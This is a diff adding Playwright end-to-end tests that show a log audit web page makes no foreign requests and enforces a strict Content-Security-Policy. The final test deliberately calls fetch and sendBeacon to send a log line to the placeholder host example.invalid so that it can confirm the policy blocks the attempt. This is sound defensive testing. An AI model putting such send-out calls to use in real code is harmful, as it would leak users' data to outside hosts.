@@ -1,0 +1,81 @@
+// e2e: nothing leaves the tab. The fixture of audit-page.ts already fails any test on a foreign request; these tests
+// say it out loud: with the network gone, under a policy that reaches the workers too, and against an attempt to leave.
+
+import { expect, test } from "./audit-page.ts";
+import { EVENTS, toLog } from "./events.ts";
+
+test("opens a log with the network unplugged", async ({ audit, page }) => {
+  await audit.visit();
+  // A first log fetches whatever the page loads late; from then on it must live on what it has.
+  await audit.openLog({ name: "first.log", text: toLog(EVENTS) });
+  await page.context().setOffline(true);
+  await audit.drop({ name: "second.log", text: toLog(EVENTS) });
+  expect(await audit.ledger()).toMatchObject({ records: EVENTS.length * 2, rejected: 0 });
+  await audit.filter("user:mallory");
+  await expect(audit.statusLine).toContainText(`of ${EVENTS.length * 2} events`);
+});
+
+test("asks its own origin for programs, styles and pictures, and for nothing else", async ({
+  audit,
+  page,
+}) => {
+  const asked: { url: string; method: string; body: string | null }[] = [];
+  page.context().on("request", (request) => {
+    asked.push({ url: request.url(), method: request.method(), body: request.postData() });
+  });
+  await audit.visit();
+  await audit.openLog({ name: "audit.log", text: toLog(EVENTS) });
+  expect(asked.length).toBeGreaterThan(0);
+  for (const { url, method, body } of asked) {
+    // Nothing of a log can leave in a request that has no body and whose address is a file of the build.
+    expect({ url, method, body }).toMatchObject({ method: "GET", body: null });
+    expect(new URL(url).search).toBe("");
+  }
+});
+
+test("gives every program, the workers' too, a policy that allows only this origin", async ({
+  audit,
+  page,
+}) => {
+  const policies = new Map<string, string>();
+  page.context().on("response", (response) => {
+    const { pathname } = new URL(response.url());
+    if (pathname.endsWith(".js")) {
+      policies.set(pathname, response.headers()["content-security-policy"] ?? "");
+    }
+  });
+  await audit.visit();
+  await audit.openLog({ name: "audit.log", text: toLog(EVENTS) });
+  expect([...policies.keys()].filter((name) => name.includes("worker"))).not.toEqual([]);
+  const inPage = await page
+    .locator("meta[http-equiv=Content-Security-Policy]")
+    .getAttribute("content");
+  for (const policy of [...policies.values(), inPage ?? ""]) {
+    expect(policy).toContain("default-src 'none'");
+    expect(policy).toContain("connect-src 'self'");
+    expect(policy).not.toMatch(/https?:|\*|'unsafe-eval'/);
+  }
+});
+
+test("stops a script that tries to send something elsewhere", async ({ page, baseURL }) => {
+  // Without the fixture: here the console is meant to complain.
+  await page.goto(baseURL ?? "");
+  const outcome = await page.evaluate(async () => {
+    try {
+      await fetch("https://example.invalid/collect", { method: "POST", body: "a log line" });
+      return "sent";
+    } catch {
+      return "stopped";
+    }
+  });
+  const violations = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener("securitypolicyviolation", (event) => {
+          resolve(event.effectiveDirective);
+        });
+        navigator.sendBeacon("https://example.invalid/collect", "a log line");
+      }),
+  );
+  expect({ outcome, violations }).toEqual({ outcome: "stopped", violations: "connect-src" });
+});
